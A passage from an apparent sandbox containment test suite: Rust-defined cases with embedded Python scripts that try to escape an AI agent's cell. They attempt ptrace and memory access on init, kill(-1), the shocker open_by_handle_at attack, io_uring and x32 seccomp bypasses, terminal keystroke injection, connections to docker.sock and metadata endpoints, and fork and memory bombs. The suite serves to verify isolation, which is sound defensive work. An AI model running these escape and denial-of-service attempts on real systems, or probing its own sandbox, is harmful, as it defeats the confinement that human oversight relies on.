    detail = f"child pid {ret}" if ret > 0 else f"{ret} {errno_name(e)}"
    if counts:
        _rec(what, ret > 0, detail)
    else:
        note(f"{what}: {detail}")
args = cbuf(struct.pack("QQQQQQQQ", CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID, 0, 0, 0, SIGCHLD, 0, 0, 0))
ret, e = syscall(435, addr(args), 64)
child_or_parent("clone3(NEWUSER|NEWNS|NEWPID)", ret, e)
# A plain clone3 child would be no escape (clone3 is refused only because its flags are
# behind a pointer seccomp cannot read): noted, not judged.
plain = cbuf(struct.pack("QQQQQQQQ", 0, 0, 0, 0, SIGCHLD, 0, 0, 0))
ret, e = syscall(435, addr(plain), 64)
child_or_parent("clone3 without namespace flags", ret, e, counts=False)
ret, e = syscall(56, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
child_or_parent("clone(NEWUSER)", ret, e)
ret, e = syscall(56, CLONE_NEWNS | CLONE_NEWPID | SIGCHLD, 0, 0, 0, 0)
child_or_parent("clone(NEWNS|NEWPID)", ret, e)
verdict("cloning into new namespaces")
"#),
    ]
}

/// Other processes: ptrace, process memory, signals, pidfds.
fn processes() -> Vec<Attack> {
    vec![
        case!(
            "containment-ptrace-attach-init",
            "ptrace-attach to the cell's init (and seize it)",
            r#"
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
ret, e = sys_try("ptrace(ATTACH, 1)", 101, PTRACE_ATTACH, 1, 0, 0)
if ret == 0:
    syscall(101, PTRACE_DETACH, 1, 0, 0)
ret, e = sys_try("ptrace(SEIZE, 1)", 101, PTRACE_SEIZE, 1, 0, 0)
if ret == 0:
    syscall(101, PTRACE_DETACH, 1, 0, 0)
verdict("ptrace on init")
"#
        ),
        case!(
            "containment-ptrace-traceme",
            "PTRACE_TRACEME in a child, then attach to init from it",
            r#"
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    a = syscall(101, 0, 0, 0, 0)
    b = syscall(101, 16, 1, 0, 0)
    os.write(w, json.dumps([a, b]).encode())
    os._exit(0)
os.close(w)
os.waitpid(pid, 0)
(a, ea), (b, eb) = json.loads(os.read(r, 200))
_rec("ptrace(TRACEME) in a child", a == 0, f"returned {a}" if a == 0 else f"{a} {errno_name(ea)}")
_rec("ptrace(ATTACH, 1) from the child", b == 0, f"returned {b}" if b == 0 else f"{b} {errno_name(eb)}")
verdict("ptrace")
"#
        ),
        case!(
            "containment-process-vm-readv-init",
            "read and write the init's memory with process_vm_readv/writev and /proc/1/mem",
            r#"
local = ctypes.create_string_buffer(64)
liov = cbuf(struct.pack("QQ", addr(local), 64))
riov = cbuf(struct.pack("QQ", 0x400000, 64))
# EFAULT would mean the permission check passed and only the address was wrong.
ok = lambda r: r >= 0
ret, e = sys_try("process_vm_readv(1)", 310, 1, addr(liov), 1, addr(riov), 1, 0, worked=ok)
if ret < 0 and e == errno.EFAULT:
    GOT.append("process_vm_readv(1) passed the permission check (EFAULT)")
ret, e = sys_try("process_vm_writev(1)", 311, 1, addr(liov), 1, addr(riov), 1, 0, worked=ok)
if ret < 0 and e == errno.EFAULT:
    GOT.append("process_vm_writev(1) passed the permission check (EFAULT)")
io_try("open /proc/1/mem read-write", lambda: os.close(os.open("/proc/1/mem", os.O_RDWR)) or "opened")
verdict("the init's memory")
"#
        ),
        case!(
            "containment-kill-init",
            "signal the cell's init (kill and pidfd_send_signal) and see whether it survives",
            r#"
sys_try("kill(1, 0)", 62, 1, 0)
sys_try("kill(1, SIGKILL)", 62, 1, 9)
pidfd, e = syscall(434, 1, 0)
if pidfd >= 0:
    sys_try("pidfd_send_signal(init, SIGKILL)", 424, pidfd, 9, 0, 0)
time.sleep(0.2)
note(f"after: parent pid {os.getppid()}, /proc/1 exists {os.path.exists('/proc/1/stat')}")
if not still_served():
    GOT.append("the membrane stopped answering after signalling init")
verdict("signalling init")
"#
        ),
        case!(
            "containment-kill-everything",
            "kill(-1, SIGKILL): signal every process the agent can reach",
            r#"
note("own children: none; any process killed would be outside the agent")
ret, e = sys_try("kill(-1, SIGKILL)", 62, -1, 9)
sys_try("kill(-1, 0)", 62, -1, 0)
note(f"still alive, parent {os.getppid()}")
if not still_served():
    GOT.append("the membrane stopped answering")
verdict("kill(-1)")
"#
        ),
        case!(
            "containment-pidfd-getfd-init",
            "steal a file descriptor from the init with pidfd_getfd",
            r#"
pidfd, e = syscall(434, 1, 0)
note(f"pidfd_open(1) -> {pidfd} {errno_name(e) if pidfd < 0 else ''}")
if pidfd < 0:
    blocked(f"pidfd_open(1): {errno_name(e)}")
for fd in range(0, 10):
    sys_try(f"pidfd_getfd(init, {fd})", 438, pidfd, fd, 0)
verdict("stealing the init's descriptors")
"#
        ),
    ]
}

/// Capabilities and identities.
fn privileges() -> Vec<Attack> {
    vec![
        observe!(
            "containment-capabilities-empty",
            "every capability set is empty, no_new_privs is set and seccomp is on",
            r#"
hdr = cbuf(struct.pack("Ii", 0x20080522, 0))
data = ctypes.create_string_buffer(24)
ret, e = syscall(125, addr(hdr), addr(data))
caps = struct.unpack("6I", data.raw) if ret == 0 else None
note(f"capget -> {ret} {caps}")
st = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Uid", "Gid"]:
    note(f"{k}: {st[k].strip()}")
if caps and any(caps):
    GOT.append(f"capget shows capabilities {caps}")
for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]:
    if int(st[k], 16):
        GOT.append(f"{k} = {st[k].strip()}")
if st["NoNewPrivs"].strip() != "1":
    GOT.append("no_new_privs is off")
if st["Seccomp"].strip() != "2":
    GOT.append(f"seccomp mode {st['Seccomp'].strip()}")
if "0" in st["Uid"].split() + st["Gid"].split():
    GOT.append(f"running as uid/gid 0: {st['Uid'].strip()} / {st['Gid'].strip()}")
REFUSED.append("no capability, no_new_privs set, seccomp filtering, not root")
verdict("the agent's privileges")
"#
        ),
        case!(
            "containment-setuid-root",
            "become root with setuid, setresuid, setreuid, setfsuid and setgroups",
            r#"
g = cbuf(struct.pack("I", 0))
for what, nr, args in [("setuid(0)", 105, (0,)), ("setgid(0)", 106, (0,)), ("setresuid(0,0,0)", 117, (0, 0, 0)),
                       ("setresgid(0,0,0)", 119, (0, 0, 0)), ("setreuid(0,0)", 113, (0, 0)), ("setregid(0,0)", 114, (0, 0)),
                       ("setgroups([0])", 116, (1, addr(g)))]:
    sys_try(what, nr, *args)
syscall(122, 0)  # setfsuid: returns the previous fsuid, never an error; judged below
syscall(123, 0)
st = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
note(f"Uid: {st['Uid'].strip()} Gid: {st['Gid'].strip()} Groups: {st['Groups'].strip()}")
if "0" in st["Uid"].split() + st["Gid"].split() + st["Groups"].split():
    GOT.append(f"an id is now 0: Uid {st['Uid'].strip()}, Gid {st['Gid'].strip()}, Groups {st['Groups'].strip()}")
verdict("becoming root")
"#
        ),
        case!(
            "containment-raise-capabilities",
            "raise CAP_SYS_ADMIN with capset, PR_CAP_AMBIENT_RAISE and securebits",
            r#"
CAP_SYS_ADMIN = 21
sys_try("prctl(PR_CAP_AMBIENT, RAISE, CAP_SYS_ADMIN)", 157, 47, 2, CAP_SYS_ADMIN, 0, 0)
sys_try("prctl(PR_SET_SECUREBITS, 0)", 157, 28, 0, 0, 0, 0)
hdr = cbuf(struct.pack("Ii", 0x20080522, 0))
want = cbuf(struct.pack("6I", 1 << CAP_SYS_ADMIN, 1 << CAP_SYS_ADMIN, 1 << CAP_SYS_ADMIN, 0, 0, 0))
sys_try("capset(CAP_SYS_ADMIN)", 126, addr(hdr), addr(want))
data = ctypes.create_string_buffer(24)
syscall(125, addr(hdr), addr(data))
caps = struct.unpack("6I", data.raw)
note(f"capget after: {caps}")
if any(caps):
    GOT.append(f"capabilities held: {caps}")
verdict("raising capabilities")
"#
        ),
    ]
}

/// System calls the filter must refuse (or that must fail for lack of privilege).
fn syscalls() -> Vec<Attack> {
    vec![
        case!("containment-keyctl", "use the kernel keyrings (add_key, keyctl, request_key)", r#"
t, d, v = cbuf("user"), cbuf("silo-rt"), cbuf(b"x")
sys_try("add_key(user, silo-rt, session keyring)", 248, addr(t), addr(d), addr(v), 1, -3, worked=lambda r: r >= 0)
sys_try("keyctl(GET_KEYRING_ID, user keyring)", 250, 0, -4, 0, worked=lambda r: r >= 0)
sys_try("keyctl(JOIN_SESSION_KEYRING)", 250, 1, 0, worked=lambda r: r >= 0)
sys_try("request_key(user, silo-rt)", 249, addr(t), addr(d), 0, 0, worked=lambda r: r >= 0)
verdict("keyrings")
"#),
        case!("containment-bpf-prog-load", "create a BPF map and load a BPF socket-filter program", r#"
attr = cbuf(struct.pack("IIII", 2, 4, 4, 1) + bytes(112))
sys_try("bpf(BPF_MAP_CREATE, array)", 321, 0, addr(attr), 128, worked=lambda r: r >= 0, gate=True)
insns = cbuf(bytes.fromhex("b700000000000000" + "9500000000000000"))
lic = cbuf("GPL")
prog = cbuf(struct.pack("IIQQIIQI", 1, 2, addr(insns), addr(lic), 0, 0, 0, 0) + bytes(76))
sys_try("bpf(BPF_PROG_LOAD, socket filter)", 321, 5, addr(prog), 128, worked=lambda r: r >= 0, gate=True)
verdict("bpf")
"#),
        case!("containment-perf-event-open", "open a perf event on the agent itself", r#"
attr = cbuf(struct.pack("IIQQQQQ", 1, 128, 0, 0, 0, 0, 1 | 1 << 5 | 1 << 6) + bytes(80))
sys_try("perf_event_open(cpu-clock, self, user only)", 298, addr(attr), 0, -1, -1, 0, worked=lambda r: r >= 0, gate=True)
sys_try("perf_event_open(cpu-clock, init)", 298, addr(attr), 1, -1, -1, 0, worked=lambda r: r >= 0, gate=True)
verdict("perf events")
"#),
        case!("containment-userfaultfd", "create a userfaultfd (the race-widening tool of kernel exploits)", r#"
O_CLOEXEC, UFFD_USER_MODE_ONLY = 0o2000000, 1
sys_try("userfaultfd(USER_MODE_ONLY)", 323, O_CLOEXEC | UFFD_USER_MODE_ONLY, worked=lambda r: r >= 0, gate=True)
sys_try("userfaultfd(0)", 323, O_CLOEXEC, worked=lambda r: r >= 0, gate=True)
io_try("open /dev/userfaultfd", lambda: os.open("/dev/userfaultfd", os.O_RDWR))
verdict("userfaultfd")
"#),
        case!("containment-kernel-modules", "load and remove kernel modules (init_module, finit_module, delete_module)", r#"
img = cbuf(b"\x7fELF" + bytes(60))
empty = cbuf("")
sys_try("init_module(64 bytes)", 175, addr(img), 64, addr(empty), gate=True)
fd = os.open("/agent/main.py", os.O_RDONLY)
sys_try("finit_module(/agent/main.py)", 313, fd, addr(empty), 0, gate=True)
sys_try("delete_module(silo_nonexistent)", 176, addr(cbuf("silo_nonexistent")), 0o4000, gate=True)
verdict("kernel modules")
"#),
        case!("containment-kexec-reboot", "kexec_load, kexec_file_load and reboot the machine", r#"
sys_try("kexec_load(no segments)", 246, 0, 0, 0, 0, gate=True)
fd = os.open("/agent/main.py", os.O_RDONLY)
sys_try("kexec_file_load(unload)", 320, fd, fd, 1, addr(cbuf("")), 1, gate=True)
sys_try("reboot(CAD_OFF)", 169, 0xfee1dead, 672274793, 0, 0, gate=True)
verdict("kexec and reboot")
"#),
        case!("containment-swapon-acct", "swapon a file in /tmp and turn on process accounting (acct)", r#"
with open("/tmp/swap", "wb") as f:
    f.write(bytes(65536))
p = cbuf("/tmp/swap")
sys_try("swapon(/tmp/swap)", 167, addr(p), 0, gate=True)
sys_try("swapoff(/tmp/swap)", 168, addr(p), gate=True)
sys_try("acct(/tmp/acct)", 163, addr(cbuf("/tmp/acct")), gate=True)
sys_try("acct(NULL)", 163, 0, gate=True)
verdict("swap and accounting")
"#),
        case!("containment-io-ports", "raw hardware I/O ports and segments: iopl, ioperm, modify_ldt", r#"
sys_try("iopl(3)", 172, 3, gate=True)
sys_try("ioperm(0x70, 2, on)", 173, 0x70, 2, 1, gate=True)
desc = cbuf(struct.pack("IIII", 0, 0, 0xfffff, 0x51))
sys_try("modify_ldt(write)", 154, 1, addr(desc), 16, gate=True)
verdict("I/O ports")
"#),
        case!("containment-open-by-handle-at", "the shocker attack: open_by_handle_at with a guessed handle of the host's root inode", r#"
h = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount_id = ctypes.c_int(0)
sys_try("name_to_handle_at(/usr)", 303, AT_FDCWD, addr(cbuf("/usr")), addr(h), ctypes.addressof(mount_id), 0, gate=True)
mfd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
guess = cbuf(struct.pack("IiII", 8, 1, 2, 0))
ret, e = sys_try("open_by_handle_at(inode 2)", 304, mfd, addr(guess), os.O_RDONLY | os.O_DIRECTORY, worked=lambda r: r >= 0, gate=True)
if ret >= 0:
    note(f"the host's root: {os.listdir(ret)}")
verdict("open_by_handle_at")
"#),
        case!("containment-io-uring", "set up an io_uring (syscall 425), which sidesteps seccomp for its operations", r#"
params = cbuf(bytes(120))
sys_try("io_uring_setup(8)", 425, 8, addr(params), worked=lambda r: r >= 0, gate=True)
ret, e = syscall(426, 0, 0, 0, 0, 0, 0)
note(f"io_uring_enter(0) -> {ret} {errno_name(e)}")
verdict("io_uring")
"#),
        observe!("containment-x32-abi", "call getpid through the x32 ABI (syscall number | 0x40000000), which the filter must kill", r#"
note("calling getpid as an x32 syscall; seccomp is expected to kill the process")
ret, e = syscall(39 | 0x40000000)
if ret > 0:
    breach(f"an x32 syscall ran: getpid returned {ret}")
blocked(f"x32 syscall refused: {ret} {errno_name(e)}")
"#)
        .agent_os(AgentOs::DirectViolation)
        .or_killed(),
        observe!("containment-int80-32bit", "call getpid through the 32-bit int 0x80 entry from an RWX page", r#"
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
page = libc.mmap(None, 4096, 7, 0x22, -1, 0)
if page in (None, ctypes.c_void_p(-1).value):
    blocked(f"an anonymous RWX page is refused: {errno_name(ctypes.get_errno())}")
code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20 (getpid); int 0x80; ret
ctypes.memmove(page, code, len(code))
note("calling getpid through int 0x80; seccomp is expected to kill the process")
ret = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
if ret > 0:
    breach(f"a 32-bit syscall ran: getpid returned {ret}")
blocked(f"int 0x80 returned {ret} ({errno_name(-ret) if ret < 0 else ''})")
"#)
        .agent_os(AgentOs::DirectViolation)
        .or_killed(),
        case!("containment-tiocsti", "push keystrokes into a terminal with TIOCSTI and grab one with TIOCSCTTY", r#"
c = cbuf(b"x")
for fd in (0, 1, 2):
    sys_try(f"ioctl({fd}, TIOCSTI)", 16, fd, 0x5412, addr(c), gate=True)
sys_try("ioctl(1, TIOCSTI | 1 << 32)", 16, 1, 0x5412 | 1 << 32, addr(c), gate=True)
sys_try("ioctl(0, TIOCSCTTY)", 16, 0, 0x540E, 1, gate=True)
sys_try("ioctl(1, TIOCLINUX)", 16, 1, 0x541C, addr(c), gate=True)
io_try("open /dev/tty", lambda: os.open("/dev/tty", os.O_RDWR))
verdict("terminal injection")
"#),
        case!("containment-personality", "set personality(READ_IMPLIES_EXEC) so readable mappings become executable", r#"
sys_try("personality(READ_IMPLIES_EXEC)", 135, 0x0400000)
ret, e = syscall(135, 0xffffffff)
note(f"personality query -> {ret} {errno_name(e) if ret == -1 else hex(ret)}")
if ret != -1 and ret & 0x0400000:
    GOT.append(f"personality is now {hex(ret)}")
verdict("personality")
"#),
        case!("containment-set-clock-hostname", "set the host's clock and the hostname", r#"
now = time.time()
ts = cbuf(struct.pack("qq", int(now), 0))
sys_try("clock_settime(REALTIME, now)", 227, 0, addr(ts), gate=True)
sys_try("settimeofday(now)", 164, addr(ts), 0, gate=True)
name = cbuf(b"silo-evil")
sys_try("sethostname", 170, addr(name), 9, gate=True)
sys_try("setdomainname", 171, addr(name), 9, gate=True)
verdict("clock and hostname")
"#),
        case!("containment-realtime-priority", "take real-time scheduling or a negative nice value to starve the host", r#"
param = cbuf(struct.pack("i", 50))
sys_try("sched_setscheduler(SCHED_FIFO, 50)", 144, 0, 1, addr(param), gate=True)
sys_try("setpriority(PROCESS, self, -20)", 141, 0, 0, -20 & 0xffffffff, gate=True)
attr = cbuf(struct.pack("IIQiIQQQ", 48, 1, 0, 0, 50, 0, 0, 0))
sys_try("sched_setattr(SCHED_FIFO)", 314, 0, addr(attr), 0, gate=True)
note(f"scheduler now {os.sched_getscheduler(0)}, nice {os.getpriority(os.PRIO_PROCESS, 0)}")
if os.sched_getscheduler(0) != 0 or os.getpriority(os.PRIO_PROCESS, 0) < 0:
    GOT.append("the scheduling class or priority went up")
verdict("real-time scheduling")
"#),
        case!("containment-raise-rlimits", "raise the hard limits on open files, file size and core dumps", r#"
import resource
for name, res in [("NOFILE", 7), ("FSIZE", 1), ("CORE", 4), ("NPROC", 6)]:
    soft, hard = resource.getrlimit(res)
    if hard == resource.RLIM_INFINITY:
        note(f"RLIMIT_{name} is unlimited already: nothing to raise")
        continue
    new = cbuf(struct.pack("QQ", 1 << 40, 1 << 40))
    ret, e = sys_try(f"prlimit64(RLIMIT_{name} -> 2^40, was {hard})", 302, 0, res, addr(new), 0)
    soft2, hard2 = resource.getrlimit(res)
    if hard != resource.RLIM_INFINITY and (hard2 == resource.RLIM_INFINITY or hard2 > hard):
        GOT.append(f"RLIMIT_{name} hard limit raised from {hard} to {hard2}")
sys_try("setrlimit(NOFILE)", 160, 7, addr(cbuf(struct.pack("QQ", 1 << 20, 1 << 20))))
verdict("raising hard limits")
"#),
        case!("containment-privileged-syscall-sweep", "a sweep of privileged calls: vhangup, quotactl, fanotify, ioprio RT, move_pages and kcmp on init", r#"
sys_try("vhangup", 153, gate=True)
sys_try("quotactl(Q_SYNC)", 179, 0x800001, 0, 0, 0, gate=True)
sys_try("fanotify_init", 300, 0, 0, worked=lambda r: r >= 0, gate=True)
sys_try("ioprio_set(self, RT)", 251, 1, 0, (1 << 13) | 4, gate=True)
sys_try("move_pages(init, query)", 279, 1, 0, 0, 0, 0, 0, gate=True)
sys_try("kcmp(init, self, FILE 0 0)", 312, 1, os.getpid(), 0, 0, 0, gate=True)
sys_try("lookup_dcookie", 212, 0, 0, 0, gate=True)
sys_try("uselib(/agent/main.py)", 134, addr(cbuf("/agent/main.py")), gate=True)
sys_try("migrate_pages(init)", 256, 1, 0, 0, 0, gate=True)
verdict("privileged calls")
"#),
    ]
}

/// The network: there is none but the membrane's socket.
fn network() -> Vec<Attack> {
    vec![
        case!("containment-tcp-daemon-ports", "connect to the host's silo daemon and console ports 127.0.0.1:8700/8701", r#"
for host, port in [("127.0.0.1", 8700), ("127.0.0.1", 8701), ("::1", 8700), ("127.0.0.1", 8089)]:
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    inet(f"tcp {host}:{port}", fam, socket.SOCK_STREAM, then=lambda s, a=(host, port): s.connect(a) or f"connected to {a}")
verdict("the host's local ports")
"#),
        case!("containment-tcp-outside", "connect to the internet (1.1.1.1:53) and the private network (10.0.0.1:80)", r#"
for host, port in [("1.1.1.1", 53), ("10.0.0.1", 80), ("169.254.169.254", 80), ("2606:4700:4700::1111", 53)]:
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    inet(f"tcp {host}:{port}", fam, socket.SOCK_STREAM, then=lambda s, a=(host, port): s.connect(a) or f"connected to {a}")
verdict("outside connections")
"#),
        case!("containment-udp-send", "send UDP datagrams to a resolver and to the loopback", r#"
for host, port in [("1.1.1.1", 53), ("127.0.0.1", 53), ("10.0.0.1", 514)]:
    inet(f"udp {host}:{port}", socket.AF_INET, socket.SOCK_DGRAM, then=lambda s, a=(host, port): f"sent {s.sendto(b'silo', a)} bytes")
verdict("UDP")
"#),
        case!("containment-dns-lookup", "resolve public names through DNS", r#"
for name in ["example.com", "one.one.one.one", "metadata.google.internal"]:
    io_try(f"getaddrinfo({name})", lambda name=name: sorted({a[4][0] for a in socket.getaddrinfo(name, 80)}))
verdict("DNS")
"#),
        case!("containment-raw-sockets", "open raw IP and ICMP (ping) sockets", r#"
for what, fam, kind, proto in [("raw ICMP", socket.AF_INET, socket.SOCK_RAW, 1), ("raw IP", socket.AF_INET, socket.SOCK_RAW, 255),
                               ("ping socket", socket.AF_INET, socket.SOCK_DGRAM, 1), ("raw ICMPv6", socket.AF_INET6, socket.SOCK_RAW, 58)]:
    inet(what, fam, kind, proto)
verdict("raw sockets")
"#),
        case!("containment-packet-socket", "open AF_PACKET sockets to sniff or forge frames", r#"
ETH_P_ALL = socket.htons(3)
inet("AF_PACKET raw", 17, socket.SOCK_RAW, ETH_P_ALL)
inet("AF_PACKET dgram", 17, socket.SOCK_DGRAM, ETH_P_ALL)
verdict("packet sockets")
"#),
        case!("containment-netlink", "open netlink sockets: route, audit, uevents, sock_diag, netfilter, generic", r#"
for name, proto in [("route", 0), ("sock_diag", 4), ("audit", 9), ("netfilter", 12), ("kobject_uevent", 15), ("generic", 16)]:
    inet(f"AF_NETLINK {name}", 16, socket.SOCK_RAW, proto)
verdict("netlink")
"#),
        case!("containment-vsock", "reach the hypervisor host over AF_VSOCK (CID 2)", r#"
inet("AF_VSOCK to CID 2 port 1024", 40, socket.SOCK_STREAM, 0, then=lambda s: s.connect((2, 1024)) or "connected")
inet("AF_VSOCK to CID 1 (local)", 40, socket.SOCK_STREAM, 0, then=lambda s: s.connect((1, 1024)) or "connected")
verdict("vsock")
"#),
        case!("containment-socket-family-sweep", "create sockets of the rarer kernel families (AF_ALG, AF_KEY, AF_XDP, AF_TIPC, AF_RDS, ...)", r#"
families = [("AF_AX25", 3, 5), ("AF_APPLETALK", 5, 2), ("AF_X25", 9, 5), ("AF_INET6", 10, 1), ("AF_KEY", 15, 3),
            ("AF_RDS", 21, 5), ("AF_PPPOX", 24, 1), ("AF_LLC", 26, 2), ("AF_CAN", 29, 3), ("AF_TIPC", 30, 4),
            ("AF_BLUETOOTH", 31, 3), ("AF_IEEE802154", 36, 2), ("AF_ALG", 38, 5), ("AF_NFC", 39, 2),
            ("AF_QIPCRTR", 42, 2), ("AF_SMC", 43, 1), ("AF_XDP", 44, 3), ("AF_MCTP", 45, 2)]
for name, fam, kind in families:
    ret, e = syscall(41, fam, kind, 0)
    if ret >= 0:
        os.close(ret)
        _rec(f"socket({name})", True, f"fd {ret}")
    else:
        _rec(f"socket({name})", False, errno_name(e))
verdict("socket families")
"#),
        case!("containment-abstract-unix-socket", "connect to abstract Unix sockets the host could listen on (X11, D-Bus, silo)", r#"
names = ["/tmp/.X11-unix/X0", "/tmp/.X11-unix/X1", "/tmp/dbus-session", "silo", "silo-membrane", "silo-daemon",
         "/run/silo/membrane.sock", "/containerd-shim", "userspace-agent"]
for line in open("/proc/net/unix").read().splitlines()[1:]:
    parts = line.split()
    if len(parts) >= 8 and parts[7].startswith("@"):
        names.append(parts[7][1:])
def connect(name):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect("\0" + name)
        return "connected"
    finally:
        s.close()
for name in names:
    io_try(f"connect @{name}", lambda name=name: connect(name))
verdict("abstract sockets")
"#),
        case!("containment-host-unix-sockets", "connect to the host's Unix sockets by path (Docker, containerd, D-Bus, systemd, journald)", r#"
paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/var/run/dbus/system_bus_socket",
         "/run/systemd/private", "/run/systemd/journal/socket", "/dev/log", "/run/silo/daemon.sock", "/tmp/.X11-unix/X0"]
def connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
        return "connected"
    finally:
        s.close()
for p in paths:
    io_try(f"connect {p}", lambda p=p: connect(p))
verdict("host Unix sockets")
"#),
        case!("containment-tcp-listen", "bind and listen on TCP and UDP ports", r#"
def listen(s, a):
    s.bind(a)
    s.listen(1)
    return f"listening on {a}"
inet("tcp listen 0.0.0.0:8099", socket.AF_INET, socket.SOCK_STREAM, then=lambda s: listen(s, ("0.0.0.0", 8099)))
inet("tcp listen [::]:8099", socket.AF_INET6, socket.SOCK_STREAM, then=lambda s: listen(s, ("::", 8099)))
inet("udp bind 0.0.0.0:5353", socket.AF_INET, socket.SOCK_DGRAM, then=lambda s: s.bind(("0.0.0.0", 5353)) or "bound")
verdict("listening")
"#),
        observe!("containment-network-devices", "the cell has no network device but a down loopback, and no route", r#"
devs = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
addrs = open("/proc/net/if_inet6").read().split()
routes = open("/proc/net/route").read().splitlines()[1:]
note(f"devices {devs}, IPv6 addresses {addrs}, IPv4 routes {routes}")
if [d for d in devs if d != "lo"]:
    GOT.append(f"network devices besides lo: {devs}")
if addrs:
    GOT.append(f"an interface is up with addresses {addrs}")
if routes:
    GOT.append(f"IPv4 routes: {routes}")
REFUSED.append(f"only {devs}, no address, no route")
verdict("network devices")
"#),
    ]
}

/// The resource limits (the lab's: memory 256M, pids 64, tmpfs 16M).
fn limits() -> Vec<Attack> {
    vec![
        case!("containment-fork-bomb", "fork until something stops it (pids limit 64)", r#"
kids, err = [], None
t0 = time.time()
try:
    while len(kids) < 1000 and time.time() - t0 < 8:
        pid = os.fork()
        if pid == 0:
            time.sleep(15)
            os._exit(0)
        kids.append(pid)
except OSError as e:
    err = e
for k in kids:
    os.kill(k, 9)
for k in kids:
    os.waitpid(k, 0)
note(f"forked {len(kids)} processes, then {err!r}")
if err is None:
    breach(f"forked {len(kids)} processes without hitting a limit")
if len(kids) > 64:
    breach(f"forked {len(kids)} processes past the pids limit of 64")
blocked(f"fork refused after {len(kids)} processes: {_why(err)}")
"#)
        .or_killed(),
        case!("containment-thread-bomb", "start threads until something stops them (pids limit 64)", r#"
import threading
threading.stack_size(256 * 1024)
stop = threading.Event()
threads, err = [], None
try:
    while len(threads) < 2000:
        t = threading.Thread(target=stop.wait, daemon=True)
        t.start()
        threads.append(t)
except RuntimeError as e:
    err = e
stop.set()
for t in threads:
    t.join()
note(f"started {len(threads)} threads, then {err!r}")
if err is None or len(threads) > 64:
    breach(f"started {len(threads)} threads past the pids limit of 64")
blocked(f"thread creation refused after {len(threads)} threads: {err}")
"#)
        .or_killed(),
        case!("containment-memory-bomb", "allocate and touch memory until something stops it (memory limit 256M)", r#"
hold, total = [], 0
chunk = 32 << 20
try:
    while total < (1536 << 20):
        hold.append(b"\x01" * chunk)
        total += chunk
        if total % (128 << 20) == 0:
            note(f"holding {total >> 20} MiB")
except MemoryError:
    blocked(f"MemoryError after {total >> 20} MiB")
breach(f"held {total >> 20} MiB of touched memory past the 256M limit")
"#)
        .or_killed(),
        case!("containment-fill-tmpfs", "fill the tmpfs past its 16M size", r#"
written, n, err = 0, 0, None
block = b"\x00" * (1 << 20)
try:
    while written < (64 << 20):
        with open(f"/tmp/fill-{n}", "wb") as f:
            for _ in range(4):
                f.write(block)
                f.flush()
                written += len(block)
        n += 1
except OSError as e:
    err = e
st = os.statvfs("/tmp")
used = (st.f_blocks - st.f_bfree) * st.f_frsize
note(f"wrote {written >> 20} MiB in {n + 1} files, then {err!r}; tmpfs used {used >> 20} MiB of {(st.f_blocks * st.f_frsize) >> 20} MiB")
if err is None or used > (17 << 20):
    breach(f"wrote {written >> 20} MiB into /tmp ({used >> 20} MiB used) past its 16M size")
blocked(f"the tmpfs stopped at {used >> 20} MiB: {_why(err)}")
"#)
        .or_killed(),
        case!("containment-fill-tmpfs-inodes", "create files in /tmp until the inode limit stops it", r#"
made, err = 0, None
try:
    while made < 50000:
        os.close(os.open(f"/tmp/i{made}", os.O_CREAT | os.O_WRONLY, 0o600))
        made += 1
except OSError as e:
    err = e
note(f"created {made} files, then {err!r}")
if err is None:
    breach(f"created {made} files in /tmp without hitting an inode limit")
blocked(f"file creation refused after {made} files: {_why(err)}")
"#)
        .or_killed(),
        case!("containment-fd-exhaustion", "open descriptors until the open-files limit stops it", r#"
fds, err = [], None
try:
    while len(fds) < 100000:
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e:
    err = e
for fd in fds:
    os.close(fd)
note(f"opened {len(fds)} descriptors, then {err!r}")
if err is None or len(fds) > 4096:
    breach(f"opened {len(fds)} descriptors")
blocked(f"open refused after {len(fds)} descriptors: {_why(err)}")
"#),
        case!("containment-cpu-quota", "spin four processes for 1.5 s under a half-core CPU limit and measure the CPU they got", r#"
N, WALL = 4, 1.5
t0 = time.time()
kids = []
for _ in range(N):
    pid = os.fork()
    if pid == 0:
        end = time.time() + WALL
        while time.time() < end:
            pass
        os._exit(0)
    kids.append(pid)
for k in kids:
    os.waitpid(k, 0)
wall = time.time() - t0
t = os.times()
cpu = t.children_user + t.children_system
note(f"{N} spinners: {cpu:.2f} s of CPU in {wall:.2f} s wall ({cpu / wall:.2f} cores)")
if cpu > 0.8 * wall:
    breach(f"{N} spinners got {cpu / wall:.2f} cores under a 0.5-core limit")
blocked(f"the CPU limit held: {cpu / wall:.2f} cores")
"#)
        .limits("  cpu: \"0.5\"\n"),
    ]
}

/// What the walls look like from inside.
fn walls() -> Vec<Attack> {
    vec![
        observe!("containment-only-tmp-writable", "every mount is read-only except /tmp (noexec, nosuid, nodev) and /proc", r#"
for line in open("/proc/self/mountinfo"):
    f = line.split()
    point, opts = f[4], set(f[5].split(","))
    if point == "/tmp":
        missing = {"noexec", "nosuid", "nodev"} - opts
        if missing:
            GOT.append(f"/tmp lacks {sorted(missing)}")
    elif "rw" in opts and point != "/proc":
        GOT.append(f"{point} is mounted read-write")
    elif "nosuid" not in opts:
        GOT.append(f"{point} allows setuid")
